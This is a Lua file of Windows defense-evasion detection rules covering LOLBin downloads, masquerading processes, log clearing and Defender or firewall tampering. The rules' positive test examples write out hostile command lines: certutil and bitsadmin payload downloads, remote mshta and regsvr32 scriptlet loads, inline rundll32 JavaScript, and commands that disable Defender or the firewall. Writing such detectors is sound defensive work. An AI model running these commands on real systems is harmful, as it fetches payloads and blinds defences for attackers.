-- Windows defense evasion: signed binaries proxying execution, masquerading.
local rules = require "etwlua.rules"
local m = require "etwlua.match"

local function cl(p) return p.cl end
local url = "https?://"

rules.define {
  id = "win.certutil_download", platform = "windows", severity = "high",
  names = { "certutil.exe" },
  title = "certutil downloads a file",
  description = "certutil -urlcache/-verifyctl with a URL fetches payloads with a signed Microsoft binary.",
  technique = { "T1105", "T1218" },
  falsepositives = { "Certificate revocation checks by admins (without -f/-split to a file)" },
  match = function(p)
    local c = cl(p)
    return c:find(url) and (c:find("urlcache") or c:find("verifyctl")) ~= nil
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\certutil.exe]],
                   command_line = [[certutil.exe -urlcache -split -f http://10.0.0.5/a.exe C:\Users\Public\a.exe]] },
                 { image = [[C:\Windows\System32\certutil.exe]],
                   command_line = [[certutil -verifyctl -f -split https://x.test/p.bin]] } },
    negative = { { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil -store my]] },
                 { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil -hashfile a.exe SHA256]] } },
  },
}

rules.define {
  id = "win.certutil_decode", platform = "windows", severity = "medium",
  names = { "certutil.exe" },
  title = "certutil decodes a file",
  description = "certutil -decode/-decodehex turns a base64 or hex text file back into a binary.",
  technique = { "T1140" },
  falsepositives = { "Admins converting certificates (PEM to DER)" },
  match = function(p) return cl(p):find("[-/]decode") ~= nil end,
  examples = {
    positive = { { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil -decode a.txt a.exe]] },
                 { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil /decodehex x.hex x.dll]] } },
    negative = { { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil -encode a.exe a.txt]] },
                 { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil -viewstore]] } },
  },
}

rules.define {
  id = "win.bitsadmin_transfer", platform = "windows", severity = "medium",
  names = { "bitsadmin.exe" },
  title = "bitsadmin downloads a file",
  description = "bitsadmin /transfer or /addfile with a URL uses BITS to fetch payloads.",
  technique = { "T1197", "T1105" },
  falsepositives = { "Legacy update scripts" },
  match = function(p)
    local c = cl(p)
    return c:find(url) and (c:find("/transfer") or c:find("/addfile")) ~= nil
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\bitsadmin.exe]],
                   command_line = [[bitsadmin /transfer j /download /priority high http://x.test/a.exe C:\t\a.exe]] } },
    negative = { { image = [[C:\Windows\System32\bitsadmin.exe]], command_line = [[bitsadmin /list /allusers]] },
                 { image = [[C:\Windows\System32\bitsadmin.exe]], command_line = [[bitsadmin /reset]] } },
  },
}

rules.define {
  id = "win.mshta_remote_or_inline", platform = "windows", severity = "high",
  names = { "mshta.exe" },
  title = "mshta runs remote or inline script",
  description = "mshta with a URL, or with javascript:/vbscript: inline code, executes HTA payloads.",
  technique = { "T1218.005" },
  falsepositives = { "Very old intranet HTA applications" },
  match = function(p)
    local c = cl(p)
    return (c:find(url) or c:find("javascript:") or c:find("vbscript:")) ~= nil
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\mshta.exe]], command_line = [[mshta http://x.test/a.hta]] },
                 { image = [[C:\Windows\System32\mshta.exe]],
                   command_line = [[mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")]] } },
    negative = { { image = [[C:\Windows\System32\mshta.exe]], command_line = [[mshta C:\apps\tool.hta]] },
                 { image = [[C:\Windows\System32\notepad.exe]], command_line = [[notepad http://x]] } },
  },
}

rules.define {
  id = "win.rundll32_no_arguments", platform = "windows", severity = "high",
  names = { "rundll32.exe" },
  title = "rundll32 without arguments",
  description = "rundll32.exe started with no DLL is a classic injection host (Cobalt Strike's default spawnto).",
  technique = { "T1218.011", "T1055" },
  falsepositives = { "None known" },
  match = function(p)
    if not p.command_line then return false end
    return #p.args == 1
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\rundll32.exe]], command_line = [[C:\Windows\system32\rundll32.exe]] },
                 { image = [[C:\Windows\SysWOW64\rundll32.exe]], command_line = [["C:\Windows\SysWOW64\rundll32.exe"]] } },
    negative = { { image = [[C:\Windows\System32\rundll32.exe]],
                   command_line = [[rundll32.exe shell32.dll,Control_RunDLL desk.cpl]] },
                 { image = [[C:\Windows\System32\rundll32.exe]] } },
  },
}

rules.define {
  id = "win.rundll32_javascript", platform = "windows", severity = "high",
  needs = { command_line = { "javascript:" } },
  title = "rundll32 runs inline JavaScript",
  description = "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\" executes script without a file.",
  technique = { "T1218.011" },
  falsepositives = { "None known" },
  match = function(p)
    -- a renamed copy (copy rundll32.exe %TEMP%\out.exe) still needs mshtml's RunHTMLApplication
    local c = cl(p)
    return (p.name == "rundll32.exe" and c:find("javascript:") ~= nil)
      or (c:find("javascript:", 1, true) ~= nil and c:find("runhtmlapplication", 1, true) ~= nil)
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\rundll32.exe]],
                   command_line = [[rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WScript.Shell")]] } },
    negative = { { image = [[C:\Windows\System32\rundll32.exe]], command_line = [[rundll32 printui.dll,PrintUIEntry]] },
                 { image = [[C:\Windows\System32\mshta.exe]], command_line = [[mshta javascript:x]] } },
  },
}

rules.define {
  id = "win.regsvr32_scrobj", platform = "windows", severity = "high",
  needs = { name = { "regsvr32.exe" }, command_line = { "/i:http" } },
  title = "regsvr32 loads a remote scriptlet (Squiblydoo)",
  description = "regsvr32 /i:URL scrobj.dll runs a COM scriptlet from the network with a signed binary.",
  technique = { "T1218.010" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    -- "/i:URL" with /s or /u is Squiblydoo's shape even on a renamed regsvr32
    return (p.name == "regsvr32.exe" and (c:find("scrobj") or (c:find("/i:") and c:find(url))) ~= nil)
      or (c:find("/i:https?://") ~= nil and (c:find("%s/s%f[%s]") or c:find("%s/u%f[%s]")) ~= nil)
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\regsvr32.exe]],
                   command_line = [[regsvr32 /s /n /u /i:http://x.test/file.sct scrobj.dll]] } },
    negative = { { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /s C:\apps\ctl.dll]] },
                 { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /u vbscript.dll]] },
                 { image = [[C:\Tools\setup.exe]], command_line = [[setup.exe /i:https://x.test/a.msi]] } },
  },
}

local lolbins = m.set { "certutil.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe", "wscript.exe", "cscript.exe",
                        "msbuild.exe", "installutil.exe", "regasm.exe", "regsvcs.exe", "cmstp.exe", "bitsadmin.exe",
                        "powershell.exe", "cmd.exe", "svchost.exe", "msiexec.exe" }
local writable = m.wildcards { "?:\\users\\*", "?:\\programdata\\*", "?:\\windows\\temp\\*", "?:\\temp\\*",
                               "?:\\perflogs\\*", "?:\\$recycle.bin\\*" }
rules.define {
  id = "win.lolbin_in_user_writable_dir", platform = "windows", severity = "high",
  -- each folder of writable, with either separator (the wildcards take both)
  needs = { image = { ":\\users", ":/users", ":\\programdata", ":/programdata", "windows\\temp", "windows/temp",
                      ":\\temp", ":/temp", ":\\perflogs", ":/perflogs", ":\\$recycle.bin", ":/$recycle.bin" } },
  names = lolbins,
  title = "System binary name running from a user-writable folder",
  description = "A copy of certutil, rundll32, PowerShell... under Users, ProgramData or Temp evades path-based "
    .. "rules; the real ones live in System32.",
  technique = { "T1036.005", "T1218" },
  falsepositives = { "Portable tool kits copied to a user's folder" },
  match = function(p) return writable(p.image) end,
  examples = {
    positive = { { image = [[C:\Users\bob\AppData\Local\Temp\certutil.exe]], command_line = [[certutil -decode a b]] },
                 { image = [[C:\ProgramData\rundll32.exe]], command_line = [[rundll32.exe x.dll,Run]] } },
    negative = { { image = [[C:\Windows\System32\certutil.exe]], command_line = [[certutil -decode a b]] },
                 { image = [[C:\Users\bob\AppData\Local\Programs\app\app.exe]] } },
  },
}

local system_names = m.set { "svchost.exe", "lsass.exe", "csrss.exe", "services.exe", "smss.exe", "wininit.exe",
                             "winlogon.exe", "lsm.exe", "spoolsv.exe", "taskhost.exe", "taskhostw.exe",
                             "explorer.exe", "conhost.exe", "dllhost.exe" }
local system_dirs = m.wildcards { "?:\\windows\\system32\\*", "?:\\windows\\syswow64\\*", "?:\\windows\\explorer.exe",
                                  "\\systemroot\\system32\\*", "\\??\\c:\\windows\\system32\\*",
                                  "\\device\\harddiskvolume*\\windows\\system32\\*",
                                  "\\device\\harddiskvolume*\\windows\\syswow64\\*",
                                  "\\device\\harddiskvolume*\\windows\\explorer.exe", "?:\\windows\\winsxs\\*" }
rules.define {
  id = "win.system_binary_wrong_path", platform = "windows", severity = "critical",
  names = system_names,
  title = "Windows system process name running from the wrong folder",
  description = "svchost, lsass, csrss and other core processes only ever run from System32; anywhere else is "
    .. "masquerading.",
  technique = { "T1036.005" },
  falsepositives = { "None known" },
  match = function(p) return p.image and p.image:find("[\\/]") and not system_dirs(p.image) end,
  examples = {
    positive = { { image = [[C:\Users\Public\svchost.exe]], command_line = [[svchost.exe -k netsvcs]] },
                 { image = [[C:\Windows\Temp\lsass.exe]] } },
    negative = { { image = [[C:\Windows\System32\svchost.exe]], command_line = [[svchost.exe -k netsvcs -p]] },
                 { image = [[C:\Windows\explorer.exe]] } },
  },
}

local lsass_parent = m.set { "wininit.exe" }
local svchost_parent = m.set { "services.exe", "msmpeng.exe", "svchost.exe" }
rules.define {
  id = "win.svchost_wrong_parent", platform = "windows", severity = "high",
  names = { "svchost.exe" },
  title = "svchost.exe with an unexpected parent",
  description = "svchost is started by services.exe; another parent means a fake or injected service host.",
  technique = { "T1036.005", "T1055" },
  falsepositives = { "Parent lost from the process table (shown as absent, not as another name)" },
  match = function(p) return p.parent_name and not svchost_parent[p.parent_name] end,
  examples = {
    positive = { { image = [[C:\Windows\System32\svchost.exe]], parent_image = [[C:\Windows\explorer.exe]] },
                 { image = [[C:\Windows\System32\svchost.exe]], parent_image = [[C:\Users\bob\x.exe]] } },
    negative = { { image = [[C:\Windows\System32\svchost.exe]], parent_image = [[C:\Windows\System32\services.exe]] },
                 { image = [[C:\Windows\System32\svchost.exe]] } },
  },
}

rules.define {
  id = "win.lsass_wrong_parent", platform = "windows", severity = "critical",
  names = { "lsass.exe" },
  title = "lsass.exe with an unexpected parent",
  description = "Only wininit.exe starts lsass; any other parent is a fake LSASS, often a credential harvester.",
  technique = { "T1036.005", "T1003" },
  falsepositives = { "None known" },
  match = function(p) return p.parent_name and not lsass_parent[p.parent_name] end,
  examples = {
    positive = { { image = [[C:\Windows\System32\lsass.exe]], parent_image = [[C:\Windows\System32\cmd.exe]] } },
    negative = { { image = [[C:\Windows\System32\lsass.exe]], parent_image = [[C:\Windows\System32\wininit.exe]] },
                 { image = [[C:\Windows\System32\lsass.exe]] } },
  },
}

local core_parent = { ["csrss.exe"] = m.set { "smss.exe" }, ["wininit.exe"] = m.set { "smss.exe" },
                      ["winlogon.exe"] = m.set { "smss.exe" }, ["services.exe"] = m.set { "wininit.exe" },
                      ["smss.exe"] = m.set { "smss.exe", "system" }, ["spoolsv.exe"] = m.set { "services.exe" } }
rules.define {
  id = "win.core_process_wrong_parent", platform = "windows", severity = "high",
  names = core_parent,
  title = "Core Windows process with an unexpected parent",
  description = "csrss, wininit, winlogon, services, smss and spoolsv have fixed parents at boot.",
  technique = { "T1036.005" },
  falsepositives = { "None known" },
  match = function(p)
    local want = core_parent[p.name or ""]
    return want ~= nil and p.parent_name ~= nil and not want[p.parent_name]
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\services.exe]], parent_image = [[C:\Windows\System32\cmd.exe]] },
                 { image = [[C:\Windows\System32\csrss.exe]], parent_image = [[C:\Windows\explorer.exe]] } },
    negative = { { image = [[C:\Windows\System32\csrss.exe]], parent_image = [[C:\Windows\System32\smss.exe]] },
                 { image = [[C:\Windows\System32\services.exe]], parent_image = [[C:\Windows\System32\wininit.exe]] } },
  },
}

local known_originals = m.set { "powershell.exe", "pwsh.dll", "cmd.exe", "rundll32.exe", "regsvr32.exe",
                                "certutil.exe", "mshta.exe", "wscript.exe", "cscript.exe", "bitsadmin.exe",
                                "psexec.c", "psexec.exe", "procdump", "wmic.exe", "net.exe", "net1.exe",
                                "schtasks.exe", "msbuild.exe", "installutil.exe", "cmstp.exe", "reg.exe",
                                "vssadmin.exe", "whoami.exe", "nltest.exe", "adfind.exe", "mimikatz.exe" }
rules.define {
  id = "win.renamed_binary", platform = "windows", severity = "high",
  needs = { original_file_name = known_originals },
  title = "Renamed system or admin binary",
  description = "The PE's OriginalFileName (Sysmon) names a known tool but the file on disk has another name: "
    .. "renaming evades name-based rules.",
  technique = { "T1036.003" },
  falsepositives = { "Software that ships a renamed copy of a Microsoft tool" },
  match = function(p)
    local o = p.original_file_name and p.original_file_name:lower()
    if not o or not known_originals[o] or not p.name then return false end
    local base = o:gsub("%.exe$", ""):gsub("%.dll$", ""):gsub("%.c$", "")
    return p.name:find(base, 1, true) == nil and not (o == "pwsh.dll" and p.name == "pwsh.exe")
      and not (o == "net1.exe" and p.name == "net.exe"), "original file name " .. p.original_file_name
  end,
  examples = {
    positive = { { image = [[C:\Users\Public\svcupdate.exe]], original_file_name = "PowerShell.EXE" },
                 { image = [[C:\Temp\x.exe]], original_file_name = "psexec.c" } },
    negative = { { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]], original_file_name = "PowerShell.EXE" },
                 { image = [[C:\apps\tool.exe]], original_file_name = "tool.exe" } },
  },
}

rules.define {
  id = "win.cmstp_inf", platform = "windows", severity = "high",
  names = { "cmstp.exe" },
  title = "cmstp installs a connection profile silently",
  description = "cmstp /s /ni with an .inf runs commands from the profile and can bypass UAC.",
  technique = { "T1218.003" },
  falsepositives = { "VPN client deployment" },
  match = function(p) local c = cl(p) return c:find("%.inf") and c:find("/s") ~= nil end,
  examples = {
    positive = { { image = [[C:\Windows\System32\cmstp.exe]], command_line = [[cmstp.exe /ni /s C:\Users\bob\x.inf]] } },
    negative = { { image = [[C:\Windows\System32\cmstp.exe]], command_line = [[cmstp.exe]] },
                 { image = [[C:\Windows\System32\notepad.exe]], command_line = [[notepad /s x.inf]] } },
  },
}

rules.define {
  id = "win.installutil_regasm_proxy", platform = "windows", severity = "high",
  names = { "installutil.exe", "regasm.exe", "regsvcs.exe" },
  title = ".NET install utilities used to run code",
  description = "InstallUtil /U, RegAsm /U and RegSvcs run attacker assemblies under signed .NET binaries.",
  technique = { "T1218.004", "T1218.009" },
  falsepositives = { "Developers registering their own assemblies" },
  match = function(p)
    local c = cl(p)
    return (p.name == "installutil.exe" and (c:find("/logtoconsole=false") or c:find("/u "))) or
      ((p.name == "regasm.exe" or p.name == "regsvcs.exe") and (c:find("/u ") or c:find("\\users\\") or c:find("\\temp\\")))
  end,
  examples = {
    positive = { { image = [[C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe]],
                   command_line = [[InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\bob\a.dll]] },
                 { image = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe]],
                   command_line = [[RegAsm.exe /U C:\Temp\a.dll]] } },
    negative = { { image = [[C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe]],
                   command_line = [[InstallUtil.exe C:\Program Files\Vendor\svc.exe]] },
                 { image = [[C:\Windows\System32\cmd.exe]], command_line = [[cmd /c dir]] } },
  },
}

rules.define {
  id = "win.msbuild_unusual_parent", platform = "windows", severity = "high",
  names = { "msbuild.exe" },
  title = "MSBuild started by an Office app, script host or shell from a user folder",
  description = "MSBuild compiles and runs inline tasks from a project file: a favourite execution proxy.",
  technique = { "T1127.001" },
  falsepositives = { "Build scripts started from a developer's cmd" },
  match = function(p)
    local parents = { ["winword.exe"] = 1, ["excel.exe"] = 1, ["wscript.exe"] = 1, ["cscript.exe"] = 1,
                      ["mshta.exe"] = 1, ["wmiprvse.exe"] = 1, ["powershell.exe"] = 1 }
    return parents[p.parent_name or ""] ~= nil
  end,
  examples = {
    positive = { { image = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe]],
                   command_line = [[MSBuild.exe C:\Users\bob\AppData\Local\Temp\x.csproj]],
                   parent_image = [[C:\Windows\System32\wscript.exe]] } },
    negative = { { image = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe]],
                   parent_image = [[C:\Program Files\Microsoft Visual Studio\devenv.exe]] },
                 { image = [[C:\Windows\System32\cmd.exe]], parent_image = [[C:\Windows\System32\wscript.exe]] } },
  },
}

rules.define {
  id = "win.event_log_cleared", platform = "windows", severity = "high",
  names = { "wevtutil.exe", "powershell.exe", "pwsh.exe" },
  title = "Event log cleared from the command line",
  description = "wevtutil cl, Clear-EventLog or Remove-EventLog erase evidence.",
  technique = { "T1070.001" },
  falsepositives = { "Lab resets" },
  match = function(p)
    local c = cl(p)
    return (p.name == "wevtutil.exe" and (c:find(" cl ") or c:find(" clear%-log") or c:find(" cl$"))) or
      ((p.name == "powershell.exe" or p.name == "pwsh.exe") and (c:find("clear%-eventlog") or c:find("remove%-eventlog")))
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\wevtutil.exe]], command_line = [[wevtutil cl Security]] },
                 { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
                   command_line = [[powershell Clear-EventLog -LogName System]] } },
    negative = { { image = [[C:\Windows\System32\wevtutil.exe]], command_line = [[wevtutil qe Security /c:5]] },
                 { image = [[C:\Windows\System32\wevtutil.exe]], command_line = [[wevtutil gl Security]] } },
  },
}

rules.define {
  id = "win.firewall_disabled", platform = "windows", severity = "medium",
  names = { "netsh.exe" },
  title = "Windows Firewall turned off or opened from the command line",
  description = "netsh advfirewall set ... state off, or netsh firewall opmode disable.",
  technique = { "T1562.004" },
  falsepositives = { "Troubleshooting admins" },
  match = function(p)
    local c = cl(p)
    return ((c:find("advfirewall") and c:find("state off")) or c:find("opmode disable") or
      (c:find("firewall") and c:find("mode=disable"))) ~= nil
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\netsh.exe]], command_line = [[netsh advfirewall set allprofiles state off]] },
                 { image = [[C:\Windows\System32\netsh.exe]], command_line = [[netsh firewall set opmode disable]] } },
    negative = { { image = [[C:\Windows\System32\netsh.exe]], command_line = [[netsh advfirewall show allprofiles]] },
                 { image = [[C:\Windows\System32\netsh.exe]], command_line = [[netsh interface ip show config]] } },
  },
}

rules.define {
  id = "win.defender_tampering", platform = "windows", severity = "high",
  needs = { command_line = { "mppreference", "windefend" } },
  title = "Microsoft Defender protections turned off",
  description = "Set-MpPreference -Disable*, or adding broad exclusions, blinds the antivirus.",
  technique = { "T1562.001" },
  falsepositives = { "Administrators tuning exclusions for a product" },
  match = function(p)
    local c = cl(p)
    return (c:find("set%-mppreference") and (c:find("%-disable") or c:find("exclusionpath"))) or
      (c:find("add%-mppreference") and c:find("exclusion")) or
      (p.name == "sc.exe" and c:find("windefend") and (c:find("stop") or c:find("disabled")))
  end,
  examples = {
    positive = { { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
                   command_line = [[powershell Set-MpPreference -DisableRealtimeMonitoring $true]] },
                 { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
                   command_line = [[powershell Add-MpPreference -ExclusionPath C:\]] } },
    negative = { { image = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
                   command_line = [[powershell Get-MpPreference]] },
                 { image = [[C:\Windows\System32\sc.exe]], command_line = [[sc query windefend]] } },
  },
}
